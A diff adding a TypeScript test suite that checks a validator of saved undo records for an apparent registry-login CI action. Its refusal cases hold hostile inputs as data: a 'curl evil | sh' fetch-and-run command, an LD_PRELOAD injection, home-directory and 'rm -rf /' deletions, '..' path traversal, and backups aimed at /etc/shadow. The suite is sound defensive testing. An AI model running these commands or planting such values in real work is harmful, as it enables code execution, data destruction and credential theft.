@@ -1,0 +1,57 @@
+import { checkRecords } from '../src/undo.js'
+
+const TEMP = '/runner/_temp'
+const DIR = `${TEMP}/registry-auth-Ab12Cd`
+const remove = { kind: 'remove', description: 'remove dir', path: DIR }
+const docker = {
+  kind: 'docker', description: 'docker', path: '/home/u/.docker/config.json', backup: `${DIR}/config.json.bak`, mode: 0o644,
+  hosts: ['123456789012.dkr.ecr.us-east-1.amazonaws.com', '127.0.0.1:5000'], env: { DOCKER_CONFIG: '/home/u/.docker' },
+  written: 'a'.repeat(64), storedInFile: ['127.0.0.1:5000'], helpers: [{ host: '123456789012.dkr.ecr.us-east-1.amazonaws.com', helper: 'ecr-login', backup: `${DIR}/helper-0.json` }],
+}
+const yarnrc = { kind: 'file', description: 'restore', path: '/home/u/.yarnrc.yml', backup: null, entries: { format: 'yaml', keys: [['npmScopes', 'acme']] } }
+const logout = { kind: 'run', description: 'podman logout', command: 'podman', args: ['logout', '123456789012.dkr.ecr.us-east-1.amazonaws.com'], env: {} }
+const helm = { kind: 'run', description: 'helm logout', command: 'helm', args: ['registry', 'logout', 'public.ecr.aws'] }
+
+test('what the main step writes passes whole', () => {
+  const saved = [remove, docker, yarnrc, logout, helm]
+  expect(checkRecords(saved, TEMP)).toEqual({ records: saved, refused: [] })
+  expect(checkRecords([], TEMP)).toEqual({ records: [], refused: [] })
+})
+
+describe('anything else is refused, with its reason; the rest still passes', () => {
+  test.each<[string, unknown, string]>([
+    ['a command of its own', { kind: 'run', description: 'x', command: 'sh', args: ['-c', 'curl evil | sh'] }, '"sh" ["-c","curl evil | sh"] is not a logout of a known registry client'],
+    ['a logout with more arguments', { ...logout, args: ['logout', '--all', 'x'] }, 'is not a logout of a known registry client'],
+    ['a logout of something that is no host', { ...logout, args: ['logout', '-h'] }, 'is not a logout of a known registry client'],
+    ['a logout with other environment', { ...logout, env: { LD_PRELOAD: '/tmp/x.so' } }, 'is not DOCKER_CONFIG alone'],
+    ['a relative DOCKER_CONFIG', { ...logout, env: { DOCKER_CONFIG: 'docker' } }, 'is not DOCKER_CONFIG alone'],
+    ['rm -rf of the home directory', { kind: 'remove', description: 'x', path: '/home/u' }, '"/home/u" is not a private directory of this action in /runner/_temp'],
+    ['rm -rf of RUNNER_TEMP itself', { kind: 'remove', description: 'x', path: TEMP }, 'is not a private directory'],
+    ['a private directory elsewhere', { kind: 'remove', description: 'x', path: '/tmp/registry-auth-Ab12Cd' }, 'is not a private directory'],
+    ['a private directory name with ..', { kind: 'remove', description: 'x', path: `${TEMP}/registry-auth-../..` }, 'is not a private directory'],
+    ['a file that is no client config', { ...yarnrc, path: '/etc/passwd' }, '"/etc/passwd" is not a config file this action changes'],
+    ['a relative config path', { ...yarnrc, path: '.yarnrc.yml' }, 'is not a config file this action changes'],
+    ['a backup outside the private directory', { ...yarnrc, backup: '/etc/shadow' }, '"/etc/shadow" is not a file in this run\'s private directory'],
+    ['a backup in a directory nobody records', { ...yarnrc, backup: `${TEMP}/registry-auth-Zz99Zz/x.bak` }, 'is not a file in this run\'s private directory'],
+    ['a mode out of range', { ...yarnrc, mode: 0o10000 }, 'is not a file mode'],
+    ['a digest that is none', { ...yarnrc, written: 'abc' }, 'is not a SHA-256 digest'],
+    ['entries of an unknown format', { ...yarnrc, entries: { format: 'xml', keys: [['a']] } }, 'is not a list of entries'],
+    ['docker with another file', { ...docker, path: '/home/u/.bashrc' }, 'is not docker\'s config.json'],
+    ['docker with a host that is an option', { ...docker, hosts: ['--all'] }, 'are not registry hosts'],
+    ['docker with a helper path', { ...docker, helpers: [{ host: docker.hosts[0], helper: '../../bin/sh' }] }, 'is not a credential helper of a logged-in host'],
+    ['docker with a helper for another host', { ...docker, helpers: [{ host: 'other.example', helper: 'pass' }] }, 'is not a credential helper of a logged-in host'],
+    ['docker with a helper backup elsewhere', { ...docker, helpers: [{ host: docker.hosts[0], helper: 'pass', backup: '/etc/shadow' }] }, 'is not a file in this run\'s private directory'],
+    ['docker with storedInFile naming other hosts', { ...docker, storedInFile: ['other.example'] }, 'names other hosts'],
+    ['an unknown kind', { kind: 'exec', description: 'x' }, '"exec" is not a kind of undo record'],
+    ['no description', { kind: 'remove', path: DIR }, 'a "remove" record has no description'],
+    ['not an object', 'rm -rf /', 'a record is not an object'],
+  ])('%s', (_label, record, reason) => {
+    const { records, refused } = checkRecords([remove, record, yarnrc], TEMP)
+    expect(refused).toEqual([expect.stringContaining(reason)])
+    expect(records).toEqual([remove, yarnrc])
+  })
+
+  test('a list that is no list', () => {
+    expect(checkRecords({ kind: 'remove' }, TEMP)).toEqual({ records: [], refused: ['the saved undo list is not a list'] })
+  })
+})
